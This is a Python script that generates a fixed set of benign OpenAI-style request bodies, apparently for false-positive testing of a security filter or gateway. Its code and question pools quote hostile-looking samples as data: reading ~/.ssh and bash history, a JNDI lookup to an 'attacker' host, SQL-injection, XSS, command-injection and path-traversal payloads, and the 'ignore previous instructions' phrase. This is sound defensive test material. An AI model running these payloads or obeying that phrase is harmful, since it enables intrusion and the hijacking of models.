#!/usr/bin/env python3
"""Writes benign-model-requests.jsonl: 520 realistic OpenAI-style request bodies that must never be blocked.

Deterministic (seeded). Each body mixes a system prompt, a user prompt drawn from one of the topic pools
below (code in many languages, SQL, shell, HTML/JS, security questions, long documents, many languages),
and sometimes tool definitions and tool calls, JSON mode, or an image URL part.
"""
import json
import random

rng = random.Random(20261125)

CODE = [
    "def fib(n):\n    a, b = 0, 1\n    for _ in range(n):\n        a, b = b, a + b\n    return a\nprint(fib(10))",
    "#include <stdio.h>\nint main(void) { char buf[16]; fgets(buf, sizeof buf, stdin); printf(\"%s\", buf); return 0; }",
    "fn main() { let v: Vec<i32> = (1..=10).filter(|x| x % 2 == 0).collect(); println!(\"{:?}\", v); }",
    "public class Main { public static void main(String[] args) throws Exception { Process p = Runtime.getRuntime().exec(new String[]{\"ls\", \"-la\"}); } }",
    "const express = require('express');\nconst app = express();\napp.get('/users/:id', (req, res) => res.json({ id: req.params.id }));\napp.listen(3000);",
    "package main\nimport (\"fmt\"; \"os/exec\")\nfunc main() { out, _ := exec.Command(\"sh\", \"-c\", \"echo hi\").Output(); fmt.Println(string(out)) }",
    "<?php\n$pdo = new PDO($dsn);\n$stmt = $pdo->prepare('SELECT * FROM users WHERE email = ?');\n$stmt->execute([$_POST['email']]);\n?>",
    "SELECT c.name, COUNT(o.id) AS orders FROM customers c LEFT JOIN orders o ON o.customer_id = c.id GROUP BY c.name HAVING COUNT(o.id) > 5 ORDER BY orders DESC;",
    "using var conn = new SqlConnection(cs);\nvar cmd = new SqlCommand(\"SELECT name FROM sys.tables\", conn);",
    "#!/bin/bash\nset -euo pipefail\nfor f in /var/log/*.log; do\n  gzip -9 \"$f\"\ndone\ncat /etc/os-release | grep VERSION",
    "import os, subprocess\nsubprocess.run(['rm', '-rf', '/tmp/build'], check=True)\nprint(os.environ.get('HOME'))",
    "document.querySelector('#out').innerHTML = `<b>${escapeHtml(name)}</b>`;\nwindow.location.href = '/login?next=' + encodeURIComponent(location.pathname);",
    "<!DOCTYPE html><html><head><script src=\"app.js\"></script><style>body{background:url(bg.png)}</style></head><body onload=\"init()\"><iframe src=\"https://example.com\"></iframe></body></html>",
    "kubectl get pods -n prod | grep CrashLoop; kubectl logs deploy/api --tail=100; docker ps -a",
    "ssh deploy@10.0.0.5 'sudo systemctl restart nginx && tail -f /var/log/nginx/error.log'",
    "UPDATE accounts SET balance = balance - 100 WHERE id = 1; INSERT INTO audit(action) VALUES ('debit'); DROP TABLE IF EXISTS tmp_import;",
    "curl -X POST https://api.example.com/v1/items -H 'Content-Type: application/json' -d '{\"name\":\"x\"}' | jq .",
    "template <typename T> T max(T a, T b) { return a > b ? a : b; }",
    "val x = listOf(1, 2, 3).map { it * 2 }.filter { it > 2 }",
    "SELECT extractvalue(xmltype('<a>1</a>'), '/a') FROM dual; -- Oracle XML question",
    "find . -name '*.py' -exec grep -l 'TODO' {} \\; | xargs wc -l",
    "$ ping -c 3 8.8.8.8\nPING 8.8.8.8: 56 data bytes\n64 bytes from 8.8.8.8: icmp_seq=0 ttl=117 time=12.3 ms",
    "echo $(date +%F) >> /tmp/run.log; ls ~/.ssh; cat ~/.bash_history | tail",
    "db.users.find({ age: { $gt: 18 }, name: { $regex: '^A' } }).sort({ name: 1 })",
    "eval(\"2 + 2\")  # why is eval dangerous in Python? what about setTimeout('alert(1)', 10) in JS?",
]

QUESTIONS = [
    "Can you explain what this code does and point out any bugs?",
    "Please review this for security issues.",
    "Rewrite this to be more idiomatic.",
    "Why does this fail in production but not locally?",
    "Add comments explaining each step.",
    "Convert this to TypeScript.",
    "What is the time complexity here?",
    "Write unit tests for this.",
]

SECURITY = [
    "How does a path traversal attack like ../../etc/passwd work, and how do I prevent it in Flask?",
    "Explain SSRF with the AWS metadata address 169.254.169.254 and how IMDSv2 mitigates it.",
    "What is Log4Shell (${jndi:ldap://attacker/a}) and which versions are affected?",
    "Show me an example of a stored XSS payload like <script>alert(1)</script> and how to escape output in Jinja.",
    "What does the payload ' OR 1=1 -- do to a login form, and how do prepared statements stop it?",
    "Explain command injection with `; cat /etc/passwd` appended to a ping form field.",
    "How do attackers use UNION SELECT to dump information_schema.tables?",
    "What is a billion laughs attack with <!ENTITY lol \"lol\"> in XML?",
    "How does the OWASP Core Rule Set score anomalies? What is paranoia level 2?",
    "Summarize CVE-2014-6271 (Shellshock) and the '() { :; };' header trick.",
    "What is prompt injection, and why is 'ignore previous instructions' the classic example?",
    "Compare WAF anomaly scoring with signature blocking.",
]

LANGUAGES = [
    "Bonjour, peux-tu m'aider à écrire une lettre de motivation pour un poste d'ingénieur ?",
    "Hola, ¿me puedes explicar la diferencia entre 'ser' y 'estar' con ejemplos?",
    "Hallo, kannst du mir erklären, wie man eine GmbH in Deutschland gründet?",
    "Ciao! Quali sono i migliori posti da visitare a Napoli in due giorni?",
    "Olá, como faço para calcular juros compostos numa planilha?",
    "Привет! Помоги составить план тренировок на неделю.",
    "你好，请帮我总结一下这篇关于气候变化的文章的要点。",
    "こんにちは。日本語の敬語の使い方を教えてください。",
    "안녕하세요, 김치찌개 레시피를 알려주세요.",
    "مرحبا، هل يمكنك شرح نظرية النسبية ببساطة؟",
    "नमस्ते, मुझे पायथन में फ़ाइल पढ़ने का तरीका बताइए।",
    "Merhaba, İstanbul'da üç günlük bir gezi planı yapar mısın?",
    "Hej! Kan du förklara hur svenska skattesystemet fungerar?",
    "Cześć, jak napisać dobre CV po polsku?",
    "Xin chào, bạn có thể giải thích blockchain là gì không?",
    "שלום, תוכל להסביר איך עובדת מערכת הבחירות בישראל?",
]

DOC_SENTENCES = [
    "The committee met on Tuesday to review the quarterly budget and the proposed changes to the travel policy.",
    "Revenue grew by 12% year over year, driven mainly by the subscription business (see table 3).",
    "Section 4.2 describes the data retention rules; records older than seven years are deleted.",
    "In the previous meeting, the team agreed to select a vendor by the end of the month; delete the old drafts.",
    "Users reported that the login page was slow; the fix was to add an index on sessions(user_id).",
    "The museum's collection includes paintings from the 17th century, many of them restored in 1998 (after the flood).",
    "Note: the union representatives will select their delegates from the members before the annual conference.",
    "For questions, contact the help desk; for urgent issues, call the on-call engineer at extension 4411.",
]

SYSTEMS = [
    "You are a helpful assistant.",
    "You are a senior software engineer who reviews code carefully.",
    "You are a friendly tutor. Answer concisely.",
    "You are a security expert helping developers fix vulnerabilities.",
    "Answer in the language of the user.",
]

TOOLS = [{
    "type": "function",
    "function": {
        "name": "run_sql",
        "description": "Runs a read-only SQL query against the analytics warehouse and returns rows.",
        "parameters": {"type": "object", "properties": {"query": {"type": "string", "description": "SELECT statement"}}, "required": ["query"]},
    },
}, {
    "type": "function",
    "function": {
        "name": "get_weather",
        "description": "Get the current weather for a city.",
        "parameters": {"type": "object", "properties": {"city": {"type": "string"}, "unit": {"type": "string", "enum": ["c", "f"]}}},
    },
}, {
    "type": "function",
    "function": {
        "name": "shell_exec",
        "description": "Runs a shell command in the sandbox, e.g. `ls -la /tmp` or `cat file.txt | wc -l`.",
        "parameters": {"type": "object", "properties": {"command": {"type": "string"}}},
    },
}]

IMAGES = [
    "https://upload.wikimedia.org/wikipedia/commons/3/3a/Cat03.jpg",
    "https://images.example.com/products/blender-300x300.png?v=2&size=large",
    "https://cdn.example.org/uploads/2024/05/chart.svg",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
]

MODELS = ["gpt-4o", "llama-3-8b", "mistral-7b-instruct", "qwen2.5-coder", "claude-compatible"]


def user_text(kind):
    if kind == "code":
        return rng.choice(QUESTIONS) + "\n\n```\n" + rng.choice(CODE) + "\n```"
    if kind == "security":
        return rng.choice(SECURITY)
    if kind == "language":
        return rng.choice(LANGUAGES)
    if kind == "document":
        sentences = [rng.choice(DOC_SENTENCES) for _ in range(rng.randint(40, 160))]
        return "Summarize the following document:\n\n" + " ".join(sentences)
    return rng.choice(CODE + SECURITY + LANGUAGES)


def request(i):
    kind = ["code", "security", "language", "document", "mixed"][i % 5]
    messages = [{"role": "system", "content": rng.choice(SYSTEMS)}, {"role": "user", "content": user_text(kind)}]
    body = {"model": rng.choice(MODELS), "messages": messages}
    variant = i % 7
    if variant == 1:
        body["tools"] = TOOLS
        body["tool_choice"] = "auto"
    elif variant == 2:
        call_id = f"call_{i:04d}"
        messages.append({"role": "assistant", "content": None, "tool_calls": [{"id": call_id, "type": "function", "function": {"name": "run_sql", "arguments": json.dumps({"query": "SELECT name, created_at FROM users WHERE created_at > now() - interval '7 days' ORDER BY created_at DESC LIMIT 10"})}}]})
        messages.append({"role": "tool", "tool_call_id": call_id, "content": json.dumps([{"name": "Ana", "created_at": "2026-11-20"}])})
        body["tools"] = TOOLS
    elif variant == 3:
        body["response_format"] = {"type": "json_object"}
        messages[0]["content"] += " Reply with a JSON object."
    elif variant == 4:
        messages[1] = {"role": "user", "content": [{"type": "text", "text": "What is in this image?"}, {"type": "image_url", "image_url": {"url": rng.choice(IMAGES)}}]}
    elif variant == 5:
        body = {"model": rng.choice(MODELS), "prompt": user_text(kind), "max_tokens": 256}
    elif variant == 6:
        body = {"model": "text-embedding-3-small", "input": [user_text(kind), rng.choice(DOC_SENTENCES)]}
    body.setdefault("temperature", round(rng.random(), 2)) if "messages" in body else None
    if i % 11 == 0 and "messages" in body:
        body["stream"] = True
        body["user"] = f"user-{i}"
    return body


with open("benign-model-requests.jsonl", "w", encoding="utf-8") as f:
    for i in range(520):
        f.write(json.dumps(request(i), ensure_ascii=False) + "\n")
